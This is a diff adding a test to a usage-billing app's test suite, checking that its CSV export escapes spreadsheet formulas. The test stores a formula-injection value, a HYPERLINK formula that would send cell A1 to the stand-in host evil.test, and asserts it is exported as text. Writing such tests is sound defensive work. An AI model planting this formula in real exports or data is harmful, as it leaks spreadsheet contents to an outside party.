@@ -124,6 +124,21 @@ def test_the_csv_export(client_for, owner, usage_two_days):
     assert lines[-1].startswith("total") and "18.000000" in lines[-1]
 
 
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(client_for, owner, api_key):
+    import csv
+    import io
+
+    key, _secret = api_key
+    product = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
+    usage_record_batch([event(key, "f1", product=product, quantity={"gpu_seconds": 60, "machine": "a100-80gb"})],
+                       now=timezone.now())
+    rollup_run()
+    response = client_for(owner).get("/usage/export.csv?range=7&group_by=product")
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[1][0] == "'" + product  # shown as text, never run
+    assert rows[1][-2].replace(".", "").isdigit()  # the numbers stay numbers
+
+
 def test_a_bad_custom_range_falls_back_with_a_message(client_for, owner, usage_two_days):
     response = client_for(owner).get("/usage/?range=custom&start=garbage")
     assert response.status_code == 200
